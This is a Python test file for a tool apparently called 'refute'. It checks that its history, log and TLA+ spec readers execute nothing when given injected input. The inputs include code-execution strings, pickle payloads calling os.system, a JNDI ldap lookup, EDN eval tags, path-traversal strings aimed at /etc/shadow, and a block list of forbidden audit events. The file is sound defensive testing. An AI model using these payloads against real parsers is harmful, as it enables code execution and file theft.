"""Reading is not running: checking a history or a log executes nothing from it and touches
no file but the one it reads.

The readers run under an audit hook (:func:`sys.addaudithook`) that records every event
CPython raises: opening files, compiling or executing code, starting processes, importing,
sockets, unpickling classes. The inputs try hard to be run: strings that are Python code,
EDN reader-eval tags (``#=(...)``), Java class tags, and pickle opcodes injected at every
byte position of a history read by the bulk EDN reader, which rewrites the text into a pickle
program and loads it with a restricted unpickler.
"""

from __future__ import annotations

import gc
import io
import pickle
import pickletools
import sys
import threading
from pathlib import Path

import pytest

import refute.readers.edn as edn
from refute.conformance.log import read_log
from refute.errors import InputError
from refute.history import formats
from refute.linearize import history as linear

FORBIDDEN_PREFIXES = ("exec", "compile", "subprocess", "os.system", "os.exec", "os.spawn",
                      "os.posix_spawn", "os.fork", "os.remove", "os.unlink", "os.rename",
                      "os.mkdir", "os.chmod", "shutil", "socket", "pickle.find_class",
                      "ctypes", "import", "builtins.input", "code.__new__", "marshal",
                      "urllib", "webbrowser", "os.putenv", "os.kill", "sys._getframe")

_events: list[tuple[str, tuple]] = []
_recording = threading.local()


def _hook(event: str, args: tuple) -> None:
    if getattr(_recording, "on", False):
        _events.append((event, args))


sys.addaudithook(_hook)  # for the rest of the process: a hook cannot be removed


def audited(read, *args, **kwargs) -> tuple[object, list[tuple[str, tuple]]]:
    """Run ``read``, returning its result (or InputError) and the audit events it raised."""
    del _events[:]
    _recording.on = True
    try:
        result = read(*args, **kwargs)
    except InputError as error:
        result = error
    finally:
        _recording.on = False
    return result, list(_events)


def assert_only_reads(events: list[tuple[str, tuple]], path: str | None) -> None:
    for event, args in events:
        assert not event.startswith(FORBIDDEN_PREFIXES), (event, args)
        if event == "open":
            opened, mode = args[0], args[1]
            assert str(opened) == str(path), f"opened {opened!r} besides the input"
            assert mode in (None, "r", "rb"), f"opened the input with mode {mode!r}"
        assert event not in ("os.listdir", "os.scandir", "os.walk", "glob.glob"), event


CODE_STRINGS = [
    "__import__('os').system('touch /tmp/refute-pwned')",
    "exec(compile('import os', 'x', 'exec'))",
    "eval(\"open('/etc/passwd').read()\")",
    "{{7*7}}", "${jndi:ldap://example.invalid/a}", "$(touch /tmp/refute-pwned)",
    "cos\nsystem\n(S'touch /tmp/refute-pwned'\ntR.",
    "c__builtin__\neval\n(Vprint(1)\ntR.",
    "\x80\x04\x95\x1c\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94\x8c\x06system\x94\x93\x94.",
    "/etc/passwd", "../../../../etc/shadow", "file:///etc/passwd",
]


def _edn_string(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _adversarial_edn() -> list[str]:
    texts = []
    for code in CODE_STRINGS:
        string = _edn_string(code)
        texts.append("{:type :invoke, :process 0, :f :txn, :value [[:append " + string +
                     " 1] [:r " + string + " nil]]}\n"
                     "{:type :ok, :process 0, :f :txn, :value [[:append " + string +
                     " 1] [:r " + string + " [1]]]}\n")
        texts.append("{:process 0, :type :invoke, :f " + string + ", :value " + string +
                     "}\n{:process 0, :type :ok, :f " + string + ", :value " + string + "}\n")
    texts += [
        "{:type :invoke, :process 0, :f :txn, :value #=(java.lang.Runtime/getRuntime)}",
        "#=(eval (java.lang.System/exit 1))",
        "#java.io.File \"/etc/passwd\"", "#java.lang.ProcessBuilder[\"touch\" \"x\"]",
        "{:process 0, :type :invoke, :f :read, :value #java.io.FileInputStream{:f \"/etc/x\"}}",
        "#clojure.java.shell/sh [\"touch\" \"/tmp/refute-pwned\"]",
        "{:type :invoke, :process 0, :f :txn, :value [[:r cos nil]]}",
        "{:type :invoke, :process 0, :f :txn, :value [[:r os.system nil]]}",
        "{:a __import__}", "[c__builtin__ eval]", "{:a #inst \"2020\" :b #uuid \"x\"}",
    ]
    return texts


def _adversarial_json() -> list[str]:
    import json
    texts = []
    for code in CODE_STRINGS:
        texts.append(json.dumps([{"type": "invoke", "process": 0, "f": "txn",
                                  "value": [["append", code, 1], ["r", code, None]]},
                                 {"type": "ok", "process": 0, "f": "txn",
                                  "value": [["append", code, 1], ["r", code, [1]]]}]))
        texts.append(json.dumps([{"process": 0, "call": 0, "return": 1,
                                  "input": [code, code], "output": code, "__class__": code,
                                  "__reduce__": code}]))
        texts.append(json.dumps({"action": code, "args": {"__init__": code},
                                 "state": {"__dict__": code}, "meta": {"$ref": code}}))
    return texts


@pytest.fixture(scope="module", autouse=True)
def _warm() -> None:
    """Import and compile everything the readers use before any event is recorded (a lazy
    import or a first regex compile is not the input's doing)."""
    for text in _adversarial_edn() + _adversarial_json():
        for read in (lambda t: formats.parse_history(t, "w"), lambda t: linear.parse(t, file="w"),
                     lambda t: read_log(io.StringIO(t), "w")):
            try:
                read(text)
            except InputError:
                pass


@pytest.mark.parametrize("text", _adversarial_edn() + _adversarial_json())
def test_history_readers_only_read_their_file(tmp_path: Path, text: str) -> None:
    path = tmp_path / "history.edn"
    path.write_text(text)
    for read in (formats.read_history, linear.read_history):
        _, events = audited(read, str(path))
        assert_only_reads(events, str(path))
        assert ("open" in {event for event, _ in events}), "the audit hook saw no open"
    assert not Path("/tmp/refute-pwned").exists()


@pytest.mark.parametrize("text", _adversarial_json() + CODE_STRINGS)
def test_log_reader_only_reads_its_file(tmp_path: Path, text: str) -> None:
    path = tmp_path / "trace.jsonl"
    path.write_text(text.replace("\n", " ") + "\n")
    _, events = audited(read_log, str(path))
    assert_only_reads(events, str(path))


PAYLOADS = [
    b"cos\nsystem\n(S'touch /tmp/refute-pwned'\ntR.", b"c__builtin__\neval\n",
    b"cbuiltins\nexec\n", b"\x80\x04\x8c\x02os\x94\x93.", b"i__builtin__\nobject\n",
    b"(i", b"c", b"R", b"b", b"o", b".", b"\n", b"P", b"\nP", b"\nc", b"\x15", b"\x14",
    b"\x10", b"\x11", b"\x13", b"\x03", b"\x05", b"tR", b"\nR", b"\nl.", b"]", b"}", b"[",
    b"{", b"#a{", b"Vx\n", b"S'a'\n", b"I1\n", b"Ffoo\n", b"}R", b"\n.",
]
BASE = (b"{:type :invoke, :f :txn, :process 0, :value [[:append 1 2] [:r 3 nil]]}\n"
        b"{:type :ok, :f :txn, :process 0, :value [[:append 1 2] [:r 3 [2 4]]]}\n")
ALLOWED_OPCODES = {"MARK", "PERSID", "TUPLE", "REDUCE", "LIST", "STOP"}


def test_the_bulk_reader_never_loads_a_class_or_calls_anything_but_the_map_builder(
        monkeypatch) -> None:
    """A payload inserted at every byte position of a history: the rewritten program holds
    only the opcodes the rewriting writes (no GLOBAL, INST, OBJ, BUILD, ...), the unpickler
    never asks for a class, and the only thing it calls is the map builder."""
    programs: list[bytes] = []
    loaded_classes: list[tuple[str, str]] = []
    reduced: list[tuple[str, str]] = []

    class Recorded(edn._Whole):
        def __init__(self, data: bytes) -> None:
            programs.append(data)
            super().__init__(data)

    def find_class(self, module: str, name: str):
        loaded_classes.append((module, name))
        raise AssertionError(f"the unpickler asked for {module}.{name}")

    original_missing = edn._Atoms.__missing__

    def missing(self, token):
        value = original_missing(self, token)
        assert not callable(value), f"atom {token!r} reads as a callable {value!r}"
        return value

    def spy(frame, event, arg):  # every Python function run while reading
        if event == "call":
            code = frame.f_code
            reduced.append((code.co_name, Path(code.co_filename).name))

    monkeypatch.setattr(edn, "_Whole", Recorded)
    monkeypatch.setattr(edn._Program, "find_class", find_class)
    monkeypatch.setattr(edn._Atoms, "__missing__", missing)
    checked = 0
    for payload in PAYLOADS:
        for position in range(len(BASE) + 1):
            text = (BASE[:position] + payload + BASE[position:]).decode("latin-1")
            del programs[:]
            gc.disable()  # as parse_all does; and no gc.callbacks (Hypothesis has one) run
            sys.setprofile(spy)
            try:
                edn._parse_fast(text)
            finally:
                sys.setprofile(None)
                gc.enable()
            for program in programs:
                checked += 1
                for opcode in _opcodes(program):
                    assert opcode in ALLOWED_OPCODES, (payload, position, opcode)
    assert checked > 1000  # the bulk reader did rewrite (most) texts into programs
    assert not loaded_classes
    # Python code run while reading: the reader's own functions (the atoms table, its atom
    # rule and the constructors that rule uses, the map builder, errors), this test's spies;
    # nothing named by the input.
    allowed = {("build_map", "edn.py"), ("__missing__", "edn.py"), ("_atom", "edn.py"),
               ("_clip", "edn.py"), ("_fail", "edn.py"), ("placeholder", "edn.py"),
               ("read", "edn.py"), ("_parse_fast", "edn.py"), ("_unescape", "edn.py"),
               ("__init__", "edn.py"),  # _Whole, the buffer the program is read from
               ("shallow", "_nesting.py"), ("__new__", "fractions.py"),
               ("__hash__", "fractions.py"), ("__init__", "<string>"),
               ("__post_init__", "errors.py"), ("__instancecheck__", "<frozen abc>"),
               ("__subclasscheck__", "<frozen abc>"), ("missing", Path(__file__).name),
               ("__init__", Path(__file__).name)}
    assert set(reduced) <= allowed, set(reduced) - allowed
    assert ("build_map", "edn.py") in set(reduced)


def _opcodes(program: bytes) -> list[str]:
    """The opcodes the unpickler would execute: the program's prefix up to the first error."""
    names = []
    try:
        for opcode, _, _ in pickletools.genops(program):
            names.append(opcode.name)
    except (ValueError, pickle.UnpicklingError, UnicodeDecodeError):
        pass
    return names


def test_a_pickle_given_as_a_history_is_not_unpickled(tmp_path: Path) -> None:
    class Boom:
        def __reduce__(self):
            return (open, ("/tmp/refute-pwned", "w"))

    for protocol in range(6):
        path = tmp_path / f"history-{protocol}.edn"
        path.write_bytes(pickle.dumps(Boom(), protocol=protocol))
        for read in (formats.read_history, linear.read_history):
            result, events = audited(read, str(path))
            assert isinstance(result, InputError), result
            assert_only_reads(events, str(path))
    assert not Path("/tmp/refute-pwned").exists()


PWN_NEXT = {
    "IOExec": "Next == x' = IF IOExec(<<\"touch\", \"/tmp/refute-pwned\">>).exitValue = 0 "
              "THEN \"a\" ELSE \"b\"",
    "JsonSerialize": "Next == JsonSerialize(\"/tmp/refute-pwned.json\", <<x>>) /\\ x' = x",
    "IOSerialize": "Next == IOSerialize(x, \"/tmp/refute-pwned.vos\", TRUE) /\\ x' = x",
}


@pytest.mark.parametrize("operator", sorted(PWN_NEXT))
def test_a_tla_spec_that_tries_to_run_or_write_is_only_read(tmp_path: Path, operator: str) -> None:
    """A .tla spec calling IOUtils' exec or the Json/IOUtils writers is read and evaluated as
    TLA+: the operator is an error where it is evaluated (exit 2 through the CLI), and nothing
    is executed, written or opened beyond the spec, its .cfg and the modules it EXTENDS
    (refute's own IOUtils and Json)."""
    from refute.engine.bfs import Options
    from refute.engine.liveness import check_model
    from refute.errors import SpecError
    from refute.tla.model import TLAModel
    from refute.tla.modules import LIBRARY

    spec = tmp_path / "Pwn.tla"
    spec.write_text("---- MODULE Pwn ----\nEXTENDS Naturals, Sequences, TLC, IOUtils, Json\n"
                    "VARIABLE x\nInit == x = \"__import__('os').system('touch /tmp/refute-pwned')\"\n"
                    + PWN_NEXT[operator] + "\n====\n")
    (tmp_path / "Pwn.cfg").write_text("INIT Init\nNEXT Next\n")
    cfg = tmp_path / "Pwn.cfg"

    def check() -> Exception:
        with pytest.raises(SpecError) as raised:
            check_model(TLAModel(str(spec), str(cfg)), Options())
        return raised.value

    check()  # warm: imports, the grammar
    del _events[:]
    _recording.on = True
    try:
        error = check()
    finally:
        _recording.on = False
    assert operator in str(error) and "Pwn.tla:" in str(error)
    for event, args in list(_events):
        assert not event.startswith(FORBIDDEN_PREFIXES), (event, args)
        if event == "open":
            assert str(args[0]).startswith((str(tmp_path), LIBRARY)), args
            assert args[1] in (None, "r", "rb"), args
    assert not any(Path(p).exists() for p in ("/tmp/refute-pwned", "/tmp/refute-pwned.json",
                                               "/tmp/refute-pwned.vos"))


def test_checking_a_tla_spec_opens_only_the_spec_its_cfg_and_modules(tmp_path: Path) -> None:
    from refute.engine.bfs import Options
    from refute.engine.liveness import check_model
    from refute.tla.model import TLAModel

    spec = tmp_path / "Strings.tla"
    spec.write_text('---- MODULE Strings ----\nEXTENDS Naturals, Sequences, TLC\nVARIABLE x\n'
                    'Init == x = <<' + ", ".join('"' + c.replace('"', "'").replace("\\", "/") + '"'
                                                 for c in CODE_STRINGS[:6]) + '>>\n'
                    'Next == (x # <<>> /\\ x\' = Tail(x)) \\/ (x = <<>> /\\ UNCHANGED x)\n====\n')
    cfg = tmp_path / "Strings.cfg"
    cfg.write_text("INIT Init\nNEXT Next\n")
    check_model(TLAModel(str(spec), str(cfg)), Options())  # warm: imports, grammar
    del _events[:]
    _recording.on = True
    try:
        result = check_model(TLAModel(str(spec), str(cfg)), Options())
    finally:
        _recording.on = False
    events = list(_events)
    assert (result.distinct_states, result.states_generated, result.depth) == (7, 8, 7)
    for event, args in events:
        assert not event.startswith(FORBIDDEN_PREFIXES), (event, args)
        if event == "open":
            opened, mode = str(args[0]), args[1]
            assert opened.startswith(str(tmp_path)) or "/oracles/tla/modules/" in opened, opened
            assert mode in (None, "r", "rb"), f"opened {opened!r} with mode {mode!r}"
